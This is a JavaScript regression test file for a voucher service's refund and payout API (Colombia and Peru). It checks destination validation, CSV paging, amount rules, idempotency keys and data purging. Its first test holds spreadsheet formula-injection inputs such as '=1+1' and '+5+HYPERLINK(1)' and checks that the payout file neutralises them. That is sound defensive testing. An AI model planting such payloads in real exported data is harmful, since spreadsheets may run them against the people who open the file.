      [{ ...bank, account_type: formula }, 'destination.account_type'],
      [{ ...bank, document_type: 'PAS', document_number: '=1+1' }, 'destination.document_number'],
      [{ ...cash, name: formula }, 'destination.name'],
      [{ ...cash, phone: '+5+HYPERLINK(1)' }, 'destination.phone'],
      [{ type: 'wallet', provider: formula, phone: '3001234567' }, 'destination.provider'],
    ];
    for (const [destination, field] of tries) {
      const bad = await shopper.post(`/v1/refunds/${r.id}/destination`, { destination });
      assert.equal(bad.status, 400, `${JSON.stringify(destination)}: ${bad.text}`);
      assert.equal(bad.json.error.param, field, JSON.stringify(destination));
    }
    // What a name may hold can still start with a formula character: the file neutralises it.
    const taken = await shopper.post(`/v1/refunds/${r.id}/destination`,
      { destination: { ...bank, holder_name: '-Ana Pérez' } });
    assert.equal(taken.json.status, 'processing', taken.text);
    const r2 = (await refund({ voucher: co.id, amount: 1_000_000, reason: 'requested_by_customer' })).json;
    await asShopper(r2).post(`/v1/refunds/${r2.id}/destination`, { destination: { ...cash, name: '-Ana Pérez' } });
    // Peru: the CCI names the bank; a `bank` that is not its bank is refused.
    const pe = await paid(peOrder());
    const r3 = (await refund({ voucher: pe.id, amount: 1_000, reason: 'requested_by_customer' })).json;
    const cci = { type: 'bank_account', account_type: 'savings', cci: '00219300123456789012',
      holder_name: 'Ana Pérez', document_type: 'DNI', document_number: '44556677' };
    for (const b of [formula, 'Interbank']) {
      const bad = await asShopper(r3).post(`/v1/refunds/${r3.id}/destination`, { destination: { ...cci, bank: b } });
      assert.deepEqual([bad.status, bad.json.error.param], [400, 'destination.bank'], b);
    }
    const badCci = await asShopper(r3).post(`/v1/refunds/${r3.id}/destination`,
      { destination: { ...cci, cci: '99919300123456789012' } });
    assert.deepEqual([badCci.status, badCci.json.error.param], [400, 'destination.cci']);
    assert.equal((await asShopper(r3).post(`/v1/refunds/${r3.id}/destination`, { destination: cci })).json.status, 'processing');
    // The whole day's file, read by a strict CSV reader: no cell a spreadsheet would run,
    // but a valid E.164 phone.
    const line = await payoutLineOf(r.id);
    assert.equal(line.name, "'-Ana Pérez");
    assert.deepEqual([line.bank, line.bank_code], ['Davivienda', '1051']);
    assert.equal((await payoutLineOf(r2.id)).name, "'-Ana Pérez");
    assert.equal((await payoutLineOf(r2.id)).phone, '+573001234567');
    assert.deepEqual([(await payoutLineOf(r3.id)).bank, (await payoutLineOf(r3.id)).bank_code], ['BCP', '002']);
    const records = await payoutRecords(today());
    assert.ok(records.length >= 3);
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) {
        const allowed = column === 'phone' && isE164(cell);
        assert.ok(!startsFormula(cell) || allowed, `${column}: ${JSON.stringify(cell)}`);
      }
    }
  });

  test('Regression (review L8, M5): the payout file pages with limit and starting_after; a far date is a 400', async () => {
    const ids = [];
    for (let i = 0; i < 3; i += 1) {
      const v = await paid(peOrder({ amount: 1_000 }));
      const r = (await refund({ voucher: v.id, reason: 'requested_by_customer' })).json;
      await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: { type: 'wallet', provider: 'plin', phone: '912345678' } });
      ids.push(r.id);
    }
    const day = today();
    const walk = async () => {
      const seen = [];
      let after = null;
      for (let pages = 0; pages < 200; pages += 1) {
        const resp = await payoutPage(day, { limit: 2, ...(after ? { starting_after: after } : {}) });
        assert.equal(resp.status, 200, resp.text);
        const records = csvRecords(resp.text);
        assert.ok(records.length <= 2, `a page of ${records.length}`);
        seen.push(...records.map((x) => x.refund));
        if (resp.headers.get('vale-has-more') !== 'true') {
          assert.equal(resp.headers.get('vale-next-starting-after'), null);
          return seen;
        }
        after = resp.headers.get('vale-next-starting-after');
        assert.equal(after, records.at(-1).refund, 'the cursor is the page\'s last line');
        assert.ok(resp.headers.get('link').includes(`starting_after=${after}`));
      }
      throw new Error('the pages never ended');
    };
    const seen = await until(async () => {
      const all = await walk();
      return ids.every((id) => all.includes(id)) && all;
    });
    assert.equal(new Set(seen).size, seen.length, 'no line twice across pages');
    assert.ok(seen.length >= 3);
    const whole = csvRecords((await payoutPage(day, {})).text).map((x) => x.refund);
    assert.deepEqual(whole.filter((id) => seen.includes(id)), seen, 'pages in the file\'s own order');
    const bad = [
      [{ limit: 0 }, 'limit'], [{ limit: 901 }, 'limit'], [{ starting_after: 'nope' }, 'starting_after'],
      [{ starting_after: 're_0000000000000000000000000000' }, 'starting_after'], [{ page: 2 }, 'page'],
    ];
    for (const [query, param] of bad) {
      const resp = await payoutPage(day, query);
      assert.equal(resp.status, 400, `${JSON.stringify(query)}: ${resp.text}`);
      assert.equal(JSON.parse(resp.text).error.param, param);
    }
    for (const far of ['9999-12-31', '1999-12-31', '2101-01-01']) {
      const resp = await payoutPage(far, {});
      assert.equal(resp.status, 400, `${far}: ${resp.text}`);
      assert.equal(JSON.parse(resp.text).error.param, 'date');
    }
  });

  test('Regression (review L2): COP refunds in centavos are refused naming amount', async () => {
    const v = await paid(efectyOrder());
    const cents = await refund({ voucher: v.id, amount: 1_000_050, reason: 'requested_by_customer' });
    assert.equal(cents.status, 400, cents.text);
    assert.deepEqual([cents.json.error.param, cents.json.error.code], ['amount', 'amount_not_cash_exact']);
    assert.equal((await read(v.id)).amount_refundable, v.amount, 'nothing held');
    assert.equal((await refund({ voucher: v.id, amount: 1_000_100, reason: 'requested_by_customer' })).status, 201);
    const pe = await paid(peOrder());
    assert.equal((await refund({ voucher: pe.id, amount: 1_001, reason: 'requested_by_customer' })).status, 201, 'PEN takes céntimos');
  });

  test('Regression (review L3): a refund Idempotency-Key is the merchant\'s: with another voucher it is 422', async () => {
    const v1 = await paid(peOrder());
    const v2 = await paid(peOrder());
    const key = { 'idempotency-key': `merchant-key-${Date.now()}` };
    const first = await refund({ voucher: v1.id, amount: 500, reason: 'requested_by_customer' }, key);
    assert.equal(first.status, 201, first.text);
    const other = await refund({ voucher: v2.id, amount: 500, reason: 'requested_by_customer' }, key);
    assert.equal(other.status, 422, other.text);
    assert.equal(other.json.error.code, 'idempotency_key_reused');
    assert.equal((await merchant.get(`/v1/refunds?voucher=${v2.id}`)).json.data.length, 0, 'no second refund');
    const replay = await refund({ voucher: v1.id, amount: 500, reason: 'requested_by_customer' }, key);
    assert.deepEqual([replay.status, replay.json.id], [201, first.json.id]);
    // Another merchant's key of the same name is another key.
    const store = api(edge.base, 'sk_test_gives_back');
    const theirs = (await store.post('/v1/vouchers', peOrder())).json;
    await store.post(`/v1/sandbox/vouchers/${theirs.id}/pay`);
    const own = await store.post('/v1/refunds', { voucher: theirs.id, amount: 500, reason: 'requested_by_customer' }, { headers: key });
    assert.equal(own.status, 201, own.text);
    // A create refused for its input keeps no key: the same key then serves another voucher.
    const key2 = { 'idempotency-key': `refused-key-${Date.now()}` };
    const refused = await refund({ voucher: v1.id, amount: 999_999, reason: 'requested_by_customer' }, key2);
    assert.equal(refused.status, 400, refused.text);
    assert.equal((await refund({ voucher: v2.id, amount: 500, reason: 'requested_by_customer' }, key2)).status, 201);
  });

  test('Regression (review L1): a purged voucher\'s refunds leave the lists, which never answer 404', async () => {
    const v = await paid(peOrder());
    const r = (await refund({ voucher: v.id, amount: 1_000, reason: 'requested_by_customer' })).json;
    await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: { type: 'wallet', provider: 'yape', phone: '987654321' } });
    assert.equal((await settle(r.id)).json.status, 'succeeded');
    await until(async () => (await merchant.get('/v1/refunds?limit=100')).json.data.some((x) => x.id === r.id));
    await payoutLineOf(r.id);
    // Six years on, the voucher's retention has ended: its alarm purges it.
    await merchant.post(`/v1/sandbox/vouchers/${v.id}/advance`, { seconds: 189_734_400 });
    await until(async () => (await merchant.get(`/v1/vouchers/${v.id}`)).status === 404, 30_000);
    assert.equal((await merchant.get(`/v1/refunds/${r.id}`)).status, 404);
    for (const path of ['/v1/refunds?limit=100', '/v1/refunds?status=succeeded&limit=100']) {
      const list = await merchant.get(path);
      assert.equal(list.status, 200, `${path}: ${list.text}`);
      assert.ok(!list.json.data.some((x) => x.id === r.id), path);
    }
    const file = await payoutPage(today(), {});
    assert.equal(file.status, 200, file.text);
    assert.ok(!file.text.includes(r.id));
  });

  test('time stamps in refunds, withdrawals and their events are to the second (no fraction)', async () => {
    const v = await paid(efectyOrder());
    const texts = [];
    const created = await refund({ voucher: v.id, amount: 1_000_000, reason: 'requested_by_customer' });
    texts.push(created.text);
    const r = created.json;
    const chosen = await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: cash });
    texts.push(chosen.text);
    texts.push((await settle(r.id)).text);
    texts.push((await merchant.get(`/v1/refunds/${r.id}`)).text);
    texts.push((await asShopper(r).get(`/v1/refunds/${r.id}`)).text);
    texts.push((await merchant.get(`/v1/refunds?voucher=${v.id}`)).text);
    const events = await until(async () => {
      const list = (await merchant.get('/v1/events?limit=100')).json.data.filter((e) => e.data.id === r.id);
      return list.some((e) => e.type === 'refund.succeeded') && list;
    });
    texts.push(JSON.stringify(events));
    const settled = JSON.parse(texts[2]);
    const stamps = [r.created_at, r.expires_at, chosen.json.withdrawal.collectable_until, settled.succeeded_at,
      ...events.flatMap((e) => [e.created_at, e.data.created_at])];
    for (const at of stamps) assert.match(at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d-05:00$/);
    for (const text of texts) assert.doesNotMatch(text, /T\d\d:\d\d:\d\d\.\d/, text);
  });
});
